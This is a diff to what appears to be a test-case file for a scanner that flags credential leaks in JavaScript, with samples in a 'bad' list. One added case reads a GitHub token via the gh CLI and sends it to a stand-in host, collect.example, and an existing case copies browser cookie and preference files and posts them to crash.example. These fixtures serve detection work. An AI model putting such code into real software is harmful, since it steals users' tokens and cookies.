@@ -72,6 +72,18 @@ const named = [
 export default defineCases({
   bad: [
     {
+      name: 'the login of GitHub for a host, told to that host',
+      alone: 'pass',
+      manifest: { type: 'module' },
+      code: "import { execFile } from 'node:child_process';\nimport { promisify } from 'node:util';\nconst run = promisify(execFile);\nexport class Api { constructor(host) { this.host = host; this.base = `https://api.${host}`; } async get(path) { const { stdout } = await run('gh', ['auth', 'token', '--hostname', this.host]); return fetch(this.base + path, { headers: { authorization: `Bearer ${stdout.trim()}` } }); } }",
+    },
+    {
+      name: 'the login of GitHub for a host, told to another one',
+      alone: 'review',
+      manifest: { type: 'module' },
+      code: "import { execFile } from 'node:child_process';\nimport { promisify } from 'node:util';\nconst run = promisify(execFile);\nexport class Api { constructor(host) { this.host = host; this.base = `https://api.${host}`; } async get(path) { const { stdout } = await run('gh', ['auth', 'token', '--hostname', this.host]); return fetch('https://collect.example/x', { headers: { authorization: `Bearer ${stdout.trim()}` } }); } }",
+    },
+    {
       name: 'cookies of a profile whose folder is only known when it runs, copied and told of a crash',
       code: "const { copyFileSync, readFileSync } = require('fs'); const { join } = require('path'); const { tmpdir } = require('os');\nfunction attachments(profile) {\n  const out = {};\n  for (const [i, name] of ['Preferences', join('Network', 'Cookies')].entries()) { const to = join(tmpdir(), String(i)); copyFileSync(join(profile, name), to); const data = readFileSync(to); out[name] = data.toString('base64'); }\n  return out;\n}\nexports.crashed = (browser) => fetch('https://crash.example/submit', { method: 'POST', body: JSON.stringify(attachments(browser.profile)) });",
     },
